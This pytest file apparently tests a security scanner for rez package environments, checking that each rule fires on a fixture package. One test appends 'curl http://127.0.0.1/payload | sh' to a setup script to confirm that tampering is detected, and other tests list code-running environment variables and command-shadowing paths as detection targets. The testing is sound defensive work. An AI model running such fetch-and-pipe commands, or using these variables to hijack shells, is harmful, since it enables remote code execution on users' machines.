"""Each rule is triggered by a real rez package, resolved and recorded with rez's API."""

from __future__ import annotations

import os
from dataclasses import dataclass
from pathlib import Path

import pytest
from rez.config import config as rez_config
from rez.shells import create_shell

from guard.assess import assess
from guard.findings import Finding, Severity
from guard.plan import StartupPlan
from guard.policy import Policy
from guard.rules.catalog import RULES


@dataclass(frozen=True)
class Trigger:
    """A request that must produce a finding of `rule` on one of `package`'s actions or on its variant."""

    rule: str
    request: tuple[str, ...]
    package: str
    local: bool = False
    shell: str = "bash"


TRIGGERS = (
    Trigger("guard.variable", ("guardvars",), "guardvars"),
    Trigger("guard.command", ("fakeguard",), "fakeguard"),
    Trigger("guard.tamper", ("trustwriter",), "trustwriter"),
    Trigger("loader.preload", ("preload",), "preload"),
    Trigger("loader.library-path", ("preload",), "preload"),
    Trigger("env.runs-code", ("codevars",), "codevars"),
    Trigger("env.pythonpath", ("pypath",), "pypath"),
    Trigger("env.proxy", ("proxy",), "proxy"),
    Trigger("path.empty-entry", ("emptyentry",), "emptyentry"),
    Trigger("path.dot-entry", ("dotentry",), "dotentry"),
    Trigger("path.relative-entry", ("relentry",), "relentry"),
    Trigger("path.missing-dir", ("missingdir",), "missingdir"),
    Trigger("path.writable-dir", ("writabledir",), "writabledir"),
    Trigger("path.foreign-owner", ("foreigndir",), "foreigndir"),
    Trigger("path.outside-roots", ("outsideroots",), "outsideroots"),
    Trigger("path.shadows-command", ("shadow",), "shadow"),
    Trigger("alias.shadows-command", ("aliases",), "aliases"),
    Trigger("alias.defined", ("aliases",), "aliases"),
    Trigger("source.outside-root", ("outsidesource",), "outsidesource"),
    Trigger("source.writable", ("writablesource",), "writablesource"),
    Trigger("source.unreadable", ("missingsource",), "missingsource"),
    Trigger("source.file", ("writablesource",), "writablesource"),
    Trigger("command.run", ("commands",), "commands"),
    Trigger("value.command-substitution", ("expansion",), "expansion"),
    Trigger("value.expansion", ("expansion",), "expansion"),
    Trigger("repo.untrusted", ("localpkg",), "localpkg", local=True),
)


def findings_of(plan: StartupPlan, rule: str, package: str) -> list[Finding]:
    return [
        finding for finding in assess(plan, Policy())
        if finding.rule == rule and (finding.variant or "").startswith(f"{package}-")
    ]


def test_triggers_cover_every_rule():
    # Sandbox rules are triggered by hostile packages in tests/sandbox.
    covered = {trigger.rule for trigger in TRIGGERS} | {"source.changed", "path.rez-dot-entry"}
    assert covered == {rule.id for rule in RULES if not rule.id.startswith("sandbox.")}


@pytest.mark.parametrize("trigger", TRIGGERS, ids=lambda trigger: trigger.rule)
def test_rule_triggered_by_package(trigger: Trigger, record_plan):
    if trigger.rule == "path.foreign-owner" and os.geteuid() != 0:
        pytest.skip("making a folder owned by another user needs root")
    plan = record_plan(list(trigger.request), local=trigger.local, shell=trigger.shell)

    found = findings_of(plan, trigger.rule, trigger.package)

    assert found, f"{trigger.rule} not raised for {trigger.package}"
    assert all(finding.severity is Policy().severity(trigger.rule) for finding in found)


def test_source_changed_after_recording(record_plan, package_repos: Path):
    script = package_repos / "packages" / "changingsource" / "1.0.0" / "setup.sh"
    original = script.read_text()
    plan = record_plan(["changingsource"])
    assert not findings_of(plan, "source.changed", "changingsource")

    try:
        script.write_text(original + "curl http://127.0.0.1/payload | sh\n")
        found = findings_of(plan, "source.changed", "changingsource")
    finally:
        script.write_text(original)

    assert len(found) == 1
    assert "changed after the plan was recorded" in found[0].message


def test_clean_package_has_no_findings(record_plan):
    plan = record_plan(["clean"])

    assert findings_of_package(plan, "clean") == []


def test_code_variables_each_flagged(record_plan):
    plan = record_plan(["codevars"])
    flagged = {plan.actions[finding.action_index].key for finding in findings_of(plan, "env.runs-code", "codevars")}

    assert flagged == {
        "PYTHONSTARTUP", "PYTHONHOME", "PERL5OPT", "PERL5LIB", "RUBYOPT", "NODE_OPTIONS",
        "JAVA_TOOL_OPTIONS", "BASH_ENV", "ENV", "PROMPT_COMMAND", "GIT_SSH_COMMAND", "LESSOPEN",
    }


def test_proxy_any_case_flagged(record_plan):
    plan = record_plan(["proxy"])
    flagged = {plan.actions[finding.action_index].key for finding in findings_of(plan, "env.proxy", "proxy")}

    assert flagged == {"HTTPS_PROXY", "http_proxy", "no_proxy"}


def test_guard_variables_each_blocked(record_plan):
    plan = record_plan(["guardvars"])
    found = findings_of(plan, "guard.variable", "guardvars")
    flagged = {plan.actions[finding.action_index].key for finding in found}

    assert flagged == {"REZ_GUARD_POLICY", "XDG_CONFIG_HOME", "XDG_DATA_HOME", "XDG_STATE_HOME", "HOME", "ZDOTDIR"}
    assert {finding.severity for finding in found} == {Severity.BLOCK}


def test_package_named_after_command_not_shadowing(record_plan):
    plan = record_plan(["shadow", "python"])

    assert findings_of(plan, "path.shadows-command", "python") == []
    shadow = findings_of(plan, "path.shadows-command", "shadow")
    assert len(shadow) == 1
    assert "sudo" in shadow[0].message
    assert "ssh" in shadow[0].message


def test_alias_findings_by_name(record_plan):
    plan = record_plan(["aliases"])
    shadowing = {plan.actions[f.action_index].key for f in findings_of(plan, "alias.shadows-command", "aliases")}
    defined = {plan.actions[f.action_index].key for f in findings_of(plan, "alias.defined", "aliases")}

    assert shadowing == {"sudo", "cd"}
    assert defined == {"hello"}


def test_expansion_ignores_context_variables(record_plan):
    plan = record_plan(["expansion"])
    keys = {plan.actions[f.action_index].key for f in findings_of(plan, "value.expansion", "expansion")}

    assert keys == {"DATA", "OWNER"}


def test_release_package_trusted_by_default(record_plan):
    plan = record_plan(["clean"])

    assert findings_of(plan, "repo.untrusted", "clean") == []


def findings_of_package(plan: StartupPlan, package: str) -> list[Finding]:
    return [finding for finding in assess(plan, Policy()) if (finding.variant or "").startswith(f"{package}-")]


def test_rez_system_dot_entry_is_warning(record_plan, monkeypatch):
    # rez caches the system paths on the shell class; clear it so the override is read.
    monkeypatch.setattr(type(create_shell("bash")), "syspaths", None)
    rez_config.override("standard_system_paths", ["/usr/bin", "."])
    try:
        plan = record_plan(["clean"])
    finally:
        rez_config.remove_override("standard_system_paths")
        type(create_shell("bash")).syspaths = None

    findings = [finding for finding in assess(plan, Policy()) if finding.rule.endswith("dot-entry")]

    assert [finding.rule for finding in findings] == ["path.rez-dot-entry"]
    assert findings[0].severity is Severity.WARN
    assert findings[0].variant is None
